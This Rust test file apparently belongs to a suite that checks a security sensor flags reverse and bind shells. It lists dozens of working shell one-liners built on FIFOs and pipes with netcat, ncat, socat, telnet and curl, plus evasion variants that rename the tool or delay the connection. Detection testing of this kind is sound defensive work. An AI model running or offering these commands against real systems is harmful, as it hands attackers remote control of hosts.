//! Shells on FIFOs and pipes that a tool made for carrying data joins to the peer.

use std::{
    fs,
    net::{IpAddr, SocketAddr},
};

use anyhow::Result;
use sensor_tests::{
    deadline::wait_for,
    lab::{BIND, Lab, REVERSE},
    network::Network,
    peer::{Listener, V4, V6, call, free_port},
    process::Proc,
    suite::Case,
};

/// The shell's streams are FIFOs or pipes that the script made.
const FIFOS: [(&str, &[&str], &str); 16] = [
    (
        "mkfifo_openbsd",
        &["nc.openbsd"],
        "mkfifo f; cat f | sh -i 2>&1 | nc.openbsd $H $P >f",
    ),
    (
        "mkfifo_traditional",
        &["nc.traditional"],
        "rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc.traditional $H $P >f",
    ),
    ("mkfifo_ncat", &["ncat"], "mkfifo f; sh -i <f 2>&1 | ncat $H $P >f"),
    (
        "mkfifo_busybox",
        &["busybox"],
        "mkfifo f; busybox sh -i <f 2>&1 | busybox nc $H $P >f",
    ),
    ("mkfifo_telnet", &["telnet"], "mkfifo f && telnet $H $P 0<f | sh 1>f"),
    (
        "mkfifo_curl",
        &["curl"],
        "mkfifo f; curl -sN telnet://$H:$P <f | sh >f 2>&1",
    ),
    (
        "mkfifo_socat",
        &["socat"],
        "mkfifo f; bash --norc -i <f 2>&1 | socat - TCP:$H:$P >f",
    ),
    (
        "mknod_openbsd",
        &["nc.openbsd"],
        "mknod f p; nc.openbsd $H $P <f | bash --norc -i >f 2>&1",
    ),
    (
        "mknod_traditional",
        &["nc.traditional"],
        "mknod f p && nc.traditional $H $P 0<f | /bin/bash 1>f",
    ),
    (
        "mknod_telnet",
        &["telnet"],
        "mknod f p && telnet $H $P 0<f | /bin/bash 1>f",
    ),
    (
        "two_fifos",
        &["nc.openbsd", "zsh"],
        "mkfifo f g; nc.openbsd $H $P <g >f & exec zsh -f >g 2>&1 <f",
    ),
    (
        "relay_in_the_background",
        &["ncat"],
        "mkfifo f g; (setsid ncat $H $P <g >f &); sh -i >g 2>&1 <f; true",
    ),
    (
        "coprocess",
        &["nc.openbsd"],
        "coproc bash --norc 2>&1; exec nc.openbsd $H $P <&${COPROC[0]} >&${COPROC[1]}",
    ),
    (
        "process_substitution",
        &["nc.traditional"],
        "mkfifo f; sh > >(exec nc.traditional $H $P >f) 2>&1 <f; true",
    ),
    (
        "cat_behind_the_shell",
        &["nc.openbsd"],
        "mkfifo f; cat f | sh -i 2>&1 | cat | cat | nc.openbsd $H $P >f",
    ),
    (
        "two_relays_in_a_row",
        &["socat", "ncat"],
        "mkfifo f; socat EXEC:'sh -i',stderr,pipes STDIO <f | ncat $H $P >f",
    ),
];

/// The same, and the peer calls.
const INBOUND: [(&str, &[&str], &str); 5] = [
    (
        "mkfifo_openbsd",
        &["nc.openbsd"],
        "mkfifo f; cat f | sh -i 2>&1 | nc.openbsd -l $H $P >f",
    ),
    (
        "mkfifo_traditional",
        &["nc.traditional"],
        "mkfifo f; nc.traditional -l -s $H -p $P <f | bash --norc >f 2>&1",
    ),
    ("mkfifo_ncat", &["ncat"], "mkfifo f; sh <f 2>&1 | ncat -l $H $P >f"),
    (
        "mkfifo_busybox",
        &["busybox"],
        "mkfifo f; busybox sh <f 2>&1 | busybox nc -l -p $P $H >f",
    ),
    (
        "mkfifo_socat",
        &["socat"],
        "mkfifo f; sh -i <f 2>&1 | socat - TCP-LISTEN:$P,bind=$H,reuseaddr >f",
    ),
];

/// Nothing is called what it is: $X is a copy of the tool.
const RENAMED: [(&str, &[&str], &str, &str); 3] = [
    (
        "nc",
        &["nc.openbsd"],
        "nc.openbsd",
        "mkfifo f; sh -i <f 2>&1 | $X $H $P >f",
    ),
    ("ncat", &["ncat"], "ncat", "mkfifo f; sh <f 2>&1 | $X $H $P >f"),
    (
        "bash",
        &["nc.openbsd", "bash"],
        "bash",
        "mkfifo f; $X --norc -i <f 2>&1 | nc.openbsd $H $P >f",
    ),
];

/// The shell runs before anybody connects: it waits for its input on a FIFO that is open already.
const CONNECTED_LATER: [(&str, &[&str], &str); 4] = [
    (
        "openbsd",
        &["nc.openbsd"],
        "mkfifo f g; exec 7<>f 8<>g; sh -i <&7 >&8 2>&1 7<&- 8<&- & echo $! >pid
until [ -e go ]; do sleep 0.01; done; exec nc.openbsd $H $P <g >f 7<&- 8<&-",
    ),
    (
        "socat",
        &["socat"],
        "mkfifo f g; exec 7<>f 8<>g; sh <&7 >&8 2>&1 7<&- 8<&- & echo $! >pid
until [ -e go ]; do sleep 0.01; done; socat TCP4:$H:$P STDIO <g >f; true",
    ),
    (
        "ncat_through_other_opens",
        &["ncat"],
        "mkfifo f g; exec 7<>f 8<>g; sh -i <f >g 2>&1 7<&- 8<&- & echo $! >pid
until [ -e go ]; do sleep 0.01; done; exec ncat $H $P <g >f 7<&- 8<&-",
    ),
    (
        "coprocess",
        &["nc.traditional"],
        "coproc exec sh -i 2>&1; echo $COPROC_PID >pid
until [ -e go ]; do sleep 0.01; done; exec nc.traditional $H $P <&${COPROC[0]} >&${COPROC[1]}",
    ),
];

/// The connection is there before the shell.
const CONNECTED_BEFORE: [(&str, &[&str], &str); 3] = [
    (
        "traditional",
        &["nc.traditional"],
        "mkfifo f g; nc.traditional $H $P 0<>g 1<>f & until [ -e go ]; do sleep 0.01; done; exec sh -i <f >g 2>&1",
    ),
    (
        "socat",
        &["socat"],
        "mkfifo f g; exec 7<>f 8<>g; socat TCP4:$H:$P STDIO <&8 >&7 & until [ -e go ]; do sleep 0.01; done
bash --norc -i <f >g 2>&1; true",
    ),
    (
        "unix_socket",
        &["socat"],
        "socat TCP4:$H:$P UNIX-LISTEN:u & until [ -S u ] && [ -e go ]; do sleep 0.01; done
exec socat EXEC:'sh -i',stderr UNIX-CONNECT:u",
    ),
];

/// The relay, at the far end of a cable, and the shell, here or in a network of its own. Both open `g` first: opening a
/// FIFO waits for the other side.
const OTHER_NETWORK: [(&str, &[&str], &str, &str); 3] = [
    (
        "openbsd",
        &["nc.openbsd", "ip", "nsenter"],
        "exec nc.openbsd $H $P <g >f",
        "exec sh -i >g 2>&1 <f",
    ),
    (
        "socat",
        &["socat", "ip", "nsenter"],
        "exec socat TCP4:$H:$P STDIO <g >f",
        "bash --norc -i >g 2>&1 <f; true",
    ),
    (
        "shell_without_network",
        &["ncat", "ip", "nsenter", "unshare"],
        "exec ncat $H $P <g >f",
        "exec unshare --net sh -i >g 2>&1 <f",
    ),
];

/// One connection brings the commands, from $P, another takes the answers, to $Q.
const TWO_CONNECTIONS: [(&str, &[&str], &str); 4] = [
    (
        "openbsd",
        &["nc.openbsd"],
        "nc.openbsd $H $P | sh 2>&1 | nc.openbsd $H $Q",
    ),
    (
        "traditional",
        &["nc.traditional"],
        "nc.traditional $H $P | bash | nc.traditional $H $Q",
    ),
    (
        "ncat",
        &["ncat"],
        "ncat --recv-only $H $P | sh 2>&1 | ncat --send-only $H $Q",
    ),
    (
        "telnet",
        &["telnet"],
        "tail -f /dev/null | telnet $H $P | /bin/bash 2>&1 | telnet $H $Q",
    ),
];

fn two_connections(lab: &Lab<'_>, script: &str) -> Result<()> {
    let (commands, answers) = (Listener::tcp(V4)?, Listener::tcp(V4)?);
    let ports = [commands.port()?.to_string(), answers.port()?.to_string()];
    let [p, q] = &ports;
    lab.bash(script, &[("H", "127.0.0.1"), ("P", p), ("Q", q)])?;
    let (mut keyboard, mut screen) = (commands.accept()?, answers.accept()?);
    keyboard.send("id\n")?;
    screen.read_until("uid=")?;
    let finding = lab.risen_finding(keyboard.ends(), REVERSE)?;
    lab.about(&finding, screen.ends())?;
    keyboard.send("exit\n")?;
    drop((keyboard, screen));
    lab.ended(&finding)?;
    Ok(())
}

/// Waits until the process whose id the script wrote into the file `pid` is a shell.
fn shell_runs(lab: &Lab<'_>) -> Result<()> {
    wait_for("a shell that nobody has called yet", || {
        let Ok(pid) = fs::read_to_string(lab.path("pid")) else {
            return Ok(None);
        };
        // Not written to its end, perhaps.
        let Ok(pid) = pid.trim().parse() else { return Ok(None) };
        Ok(Proc::of(pid)?.exe.ends_with("dash").then_some(()))
    })
}

/// The shell runs before anybody connects to the peer.
fn connected_later(lab: &Lab<'_>, script: &str) -> Result<()> {
    let listener = Listener::tcp(V4)?;
    lab.bash(script, &[("H", "127.0.0.1"), ("P", &listener.port()?.to_string())])?;
    shell_runs(lab)?;
    fs::write(lab.path("go"), "")?;
    lab.carried(listener.accept()?, REVERSE)
}

/// The connection is there before the shell.
fn connected_before(lab: &Lab<'_>, script: &str) -> Result<()> {
    let peer = lab.calls(&Listener::tcp(V4)?, "127.0.0.1", script)?;
    fs::write(lab.path("go"), "")?;
    lab.carried(peer, REVERSE)
}

/// The relay `command` runs at the far end of a cable, the shell `shell` here, with FIFOs `f` to the shell and `g` from it.
fn other_network(lab: &Lab<'_>, relay: &str, shell: &str) -> Result<()> {
    let network = Network::new(lab)?;
    let listener = network.listener()?;
    lab.bash_to_end("mkfifo f g", &[])?;
    lab.bash(shell, &[])?;
    let mut bash = network.command(lab, "bash")?;
    bash.args(["-c", relay])
        .env("H", "198.51.100.1")
        .env("P", listener.port()?.to_string());
    lab.spawn(&mut bash)?;
    lab.carried(listener.accept()?, REVERSE)
}

fn reverse(name: &str, tools: &'static [&'static str], ip: IpAddr, host: &'static str, script: &'static str) -> Case {
    Case::new(name, tools, move |lab| {
        lab.carried(lab.calls(&Listener::tcp(ip)?, host, script)?, REVERSE)
    })
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, tools, script) in FIFOS {
        cases.push(reverse(&format!("relay::{name}"), tools, V4, "127.0.0.1", script));
    }
    cases.push(reverse(
        "relay::mkfifo_ipv6",
        &["nc.openbsd"],
        V6,
        "::1",
        "mkfifo f; sh <f 2>&1 | nc.openbsd -6 $H $P >f",
    ));
    for (name, tools, script) in INBOUND {
        cases.push(Case::new(format!("relay_inbound::{name}"), tools, move |lab| {
            let port = free_port(V4)?;
            lab.bash(script, &[("H", "127.0.0.1"), ("P", &port.to_string())])?;
            lab.carried(call(SocketAddr::new(V4, port))?, BIND)
        }));
    }
    for (name, tools, tool, script) in RENAMED {
        cases.push(Case::new(format!("relay_renamed::{name}"), tools, move |lab| {
            lab.carried(lab.connected(script, &lab.copy(tool, "updater")?)?, REVERSE)
        }));
    }
    for (name, tools, script) in TWO_CONNECTIONS {
        cases.push(Case::new(format!("relay_two_connections::{name}"), tools, move |lab| {
            two_connections(lab, script)
        }));
    }
    for (name, tools, script) in CONNECTED_LATER {
        cases.push(Case::new(format!("relay_connected_later::{name}"), tools, move |lab| {
            connected_later(lab, script)
        }));
    }
    for (name, tools, script) in CONNECTED_BEFORE {
        cases.push(Case::new(
            format!("relay_connected_before::{name}"),
            tools,
            move |lab| connected_before(lab, script),
        ));
    }
    for (name, tools, relay, shell) in OTHER_NETWORK {
        cases.push(Case::new(
            format!("relay_in_another_network::{name}"),
            tools,
            move |lab| other_network(lab, relay, shell),
        ));
    }
    cases
}
